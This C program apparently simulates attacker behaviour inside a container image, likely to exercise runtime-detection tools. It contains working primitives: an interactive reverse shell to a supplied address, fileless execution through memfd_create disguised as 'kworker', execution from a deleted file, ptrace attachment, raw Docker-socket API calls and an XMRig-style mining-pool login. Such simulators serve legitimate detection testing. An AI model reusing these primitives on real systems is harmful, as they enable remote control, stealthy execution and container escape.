/* What attackers do with an interpreter that the image has: each verb makes the calls that such a script makes. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <fenv.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

static int must(int result, const char *what)
{
    if (result < 0) {
        perror(what);
        exit(1);
    }
    return result;
}

static int connected(const char *address, const char *port)
{
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(atoi(port))};
    inet_pton(AF_INET, address, &peer.sin_addr);
    int socket_ = must(socket(AF_INET, SOCK_STREAM, 0), "socket");
    must(connect(socket_, (struct sockaddr *)&peer, sizeof peer), "connect");
    return socket_;
}

static void copy(const char *from, int to)
{
    static char buffer[1 << 16];
    int file = must(open(from, O_RDONLY), from);
    ssize_t size;
    while ((size = read(file, buffer, sizeof buffer)) > 0)
        must(write(to, buffer, size), "write");
    close(file);
}

static int reverse_shell(char **words)
{
    int socket_ = connected(words[0], words[1]);
    for (int number = 0; number < 3; number++)
        dup2(socket_, number);
    return execl("/bin/sh", "sh", "-i", (char *)0);
}

static int from_memory(char **words)
{
    int file = must(memfd_create("kworker", MFD_CLOEXEC), "memfd_create");
    copy(words[0], file);
    return must(fexecve(file, words + 1, environ), "fexecve");
}

static int from_deleted_file(char **words)
{
    char name[] = "/tmp/.XXXXXX", path[64];
    int file = must(mkostemp(name, 0), "mkstemp");
    copy(words[0], file);
    fchmod(file, 0700);
    int again = must(open(name, O_RDONLY), name);
    close(file);
    unlink(name);
    snprintf(path, sizeof path, "/proc/self/fd/%d", again);
    return must(execve(path, words + 1, environ), path);
}

static int inject(void)
{
    static long target;
    pid_t child = must(fork(), "fork");
    if (!child) {
        pause();
        _exit(0);
    }
    must(ptrace(PTRACE_ATTACH, child, 0, 0), "attach");
    waitpid(child, 0, 0);
    must(ptrace(PTRACE_POKETEXT, child, &target, 42L), "poke");
    ptrace(PTRACE_DETACH, child, 0, 0);
    kill(child, SIGKILL);
    waitpid(child, 0, 0);
    return 0;
}

static int ask_socket(char **words)
{
    struct sockaddr_un peer = {.sun_family = AF_UNIX};
    char text[4096];
    strncpy(peer.sun_path, words[0], sizeof peer.sun_path - 1);
    int socket_ = must(socket(AF_UNIX, SOCK_STREAM, 0), "socket");
    must(connect(socket_, (struct sockaddr *)&peer, sizeof peer), "connect");
    const char *body = words[3] ? words[3] : "";
    int size = snprintf(text, sizeof text,
                        "%s %s HTTP/1.1\r\nHost: docker\r\nContent-Type: application/json\r\n"
                        "Content-Length: %zu\r\nConnection: close\r\n\r\n%s",
                        words[1], words[2], strlen(body), body);
    must(write(socket_, text, size), "write");
    while ((size = read(socket_, text, sizeof text)) > 0)
        must(write(1, text, size), "write");
    return 0;
}

static int mine(char **words)
{
    static const char login[] = "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":"
                                "{\"login\":\"wallet\",\"pass\":\"x\",\"agent\":\"XMRig/6.21.0\"}}\n";
    char job[512];
    int socket_ = connected(words[0], words[1]);
    must(write(socket_, login, sizeof login - 1), "write");
    return read(socket_, job, sizeof job) > 0 ? 0 : 1;
}

static int calculate(void)
{
    static const int modes[] = {FE_TONEAREST, FE_DOWNWARD, FE_UPWARD, FE_TOWARDZERO};
    struct timespec now, begun;
    volatile double value = 1.1;
    clock_gettime(CLOCK_MONOTONIC, &begun);
    do {
        for (int i = 0; i < 4000; i++) {
            fesetround(modes[i & 3]);
            value = value * 1.0000001 + 1e-9;
        }
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while ((now.tv_sec - begun.tv_sec) * 1000 + (now.tv_nsec - begun.tv_nsec) / 1000000 < 300);
    return value > 0 ? 0 : 1;
}

int main(int count, char **words)
{
    const char *verb = count > 1 ? words[1] : "";
    words += 2;
    if (count >= 4 && !strcmp(verb, "shell"))
        return reverse_shell(words);
    if (count >= 4 && !strcmp(verb, "memory"))
        return from_memory(words);
    if (count >= 4 && !strcmp(verb, "deleted"))
        return from_deleted_file(words);
    if (!strcmp(verb, "inject"))
        return inject();
    if (count >= 5 && !strcmp(verb, "ask"))
        return ask_socket(words);
    if (count >= 4 && !strcmp(verb, "mine"))
        return mine(words);
    if (!strcmp(verb, "calculate"))
        return calculate();
    fprintf(stderr, "unknown verb: %s\n", verb);
    return 2;
}
